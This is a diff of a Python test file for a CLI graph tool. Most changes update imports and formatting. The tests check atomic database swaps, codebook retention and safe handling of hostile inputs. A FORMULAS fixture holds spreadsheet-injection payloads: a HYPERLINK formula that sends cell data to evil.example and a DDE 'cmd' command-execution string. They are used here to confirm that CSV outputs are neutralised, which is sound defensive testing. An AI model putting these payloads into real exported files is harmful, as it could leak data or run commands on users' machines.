@@ -1,20 +1,20 @@
 """Issue 13, "more found the same way": loads that never race, durable swaps, sources that leave
 the disk, the stored codebook kept, hostile names and cells in every output."""
+
 from __future__ import annotations
 
 import csv
 import io
 import os
 import threading
-from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
 
 from challenge_graph.cli import cli
-from graph.errors import StoreBusyError
-from graph.ladybug_store import LadybugStore
-from loaders.ingest import ingest
+from challenge_graph.graph.errors import StoreBusyError
+from challenge_graph.graph.ladybug_store import LadybugStore
+from challenge_graph.loaders.ingest import ingest
 from tests.conftest import EXAMPLES, INTERVIEW_35, LEADER_4
 
 
@@ -101,7 +101,7 @@ def test_the_new_database_and_its_folder_are_fsynced_around_the_rename(tmp_path,
 
 
 def test_replaced_and_removed_sources_leave_the_folder(tmp_path):
-    from graph.model import SourceFile
+    from challenge_graph.graph.model import SourceFile
 
     db = tmp_path / "db"
     store = LadybugStore(db)
@@ -123,8 +123,14 @@ def test_replaced_and_removed_sources_leave_the_folder(tmp_path):
 def test_db_that_is_a_file_is_one_clear_line(tmp_path):
     file = tmp_path / "passwd"
     file.write_text("root:x:0:0\n")
-    for args in (["load", EXAMPLES], ["query", "top-challenges"], ["cypher", "MATCH (n) RETURN n"],
-                 ["dashboard"], ["demo", "--no-dashboard"], ["load", EXAMPLES, "--db", file / "inside"]):
+    for args in (
+        ["load", EXAMPLES],
+        ["query", "top-challenges"],
+        ["cypher", "MATCH (n) RETURN n"],
+        ["dashboard"],
+        ["demo", "--no-dashboard"],
+        ["load", EXAMPLES, "--db", file / "inside"],
+    ):
         command = [*args] if "--db" in args else [*args, "--db", file]
         result = invoke(*command)
         assert result.exit_code == 1, (args, result.output)
@@ -134,18 +140,23 @@ def test_db_that_is_a_file_is_one_clear_line(tmp_path):
 
 
 def test_replace_without_codebook_keeps_the_stored_codebook(tmp_path):
-    from graph.codebook import default_codebook_path
+    from challenge_graph.graph.codebook import default_codebook_path
 
     book = tmp_path / "team-book.yaml"
-    book.write_text(default_codebook_path().read_text(encoding="utf-8").replace(
-        "Loss function is hard to implement and test", "Loss is hard (team label)"), encoding="utf-8")
+    book.write_text(
+        default_codebook_path()
+        .read_text(encoding="utf-8")
+        .replace("Loss function is hard to implement and test", "Loss is hard (team label)"),
+        encoding="utf-8",
+    )
     db = tmp_path / "db"
     assert invoke("load", EXAMPLES, "--codebook", book, "--db", db).exit_code == 0
     assert invoke("load", EXAMPLES, "--replace", "--db", db).exit_code == 0
     store = LadybugStore(db)
     assert store.codebook().name == "team-book.yaml" and store.codebook().data == book.read_bytes()
     assert store.run("MATCH (c:Challenge {code: 'Loss-complexity'}) RETURN c.name").rows == [
-        ("Loss is hard (team label)",)]
+        ("Loss is hard (team label)",)
+    ]
     store.close()
 
 
@@ -164,7 +175,7 @@ def test_file_names_with_newlines_cannot_forge_report_lines(tmp_path):
     assert "Rejected 0:" not in check.stderr.splitlines()
 
 
-FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "@SUM(1+1)", "+1+2", "-2+3", "=cmd|' /C calc'!A0"]
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)", "+1+2", "-2+3", "=cmd|' /C calc'!A0"]
 
 
 @pytest.fixture(scope="module")
@@ -194,15 +205,18 @@ def _assert_neutralised(text: str) -> None:
 
 
 def test_csv_cells_never_start_a_formula_on_any_output(formula_store, tmp_path):
-    cypher = invoke("cypher", "MATCH (c:Challenge) RETURN c.code AS code, c.name AS name", "--format", "csv",
-                    "--db", formula_store)
+    cypher = invoke(
+        "cypher", "MATCH (c:Challenge) RETURN c.code AS code, c.name AS name", "--format", "csv", "--db", formula_store
+    )
     _assert_neutralised(cypher.stdout)
     query = invoke("query", "top-challenges", "--format", "csv", "--db", formula_store)
     _assert_neutralised(query.stdout)
     edges = tmp_path / "edges.csv"
     assert invoke("export", tmp_path / "tables", "--participant", "P1", "--db", formula_store).exit_code == 0
-    _assert_neutralised((tmp_path / "tables" / "nodes.csv").read_text(encoding="utf-8")
-                        + (tmp_path / "tables" / "edges.csv").read_text(encoding="utf-8"))
+    _assert_neutralised(
+        (tmp_path / "tables" / "nodes.csv").read_text(encoding="utf-8")
+        + (tmp_path / "tables" / "edges.csv").read_text(encoding="utf-8")
+    )
     assert invoke("export", edges, "--participant", "P1", "--db", formula_store).exit_code == 0
     _assert_neutralised(edges.read_text(encoding="utf-8"))
     matrix = tmp_path / "matrix.csv"
@@ -213,7 +227,7 @@ def test_csv_cells_never_start_a_formula_on_any_output(formula_store, tmp_path):
 def test_dashboard_csv_downloads_are_neutralised():
     import pandas as pd
 
-    from dashboard.data import csv_download
+    from challenge_graph.dashboard.data import csv_download
 
     frame = pd.DataFrame({"code": FORMULAS, "n": [-1, 2, 3, 4, 5]})
     rows = list(csv.reader(io.StringIO(csv_download(frame))))
@@ -224,7 +238,7 @@ def test_dashboard_csv_downloads_are_neutralised():
 def test_a_load_through_the_shared_store_never_closes_a_running_read(tmp_path):
     """The dashboard's Load page loads through the store its other sessions read from: the swap
     re-opens the shared connection only between their queries."""
-    from queries.runner import corpus_summary
+    from challenge_graph.queries.runner import corpus_summary
 
     store = LadybugStore(tmp_path / "db")
     ingest(store, [INTERVIEW_35])
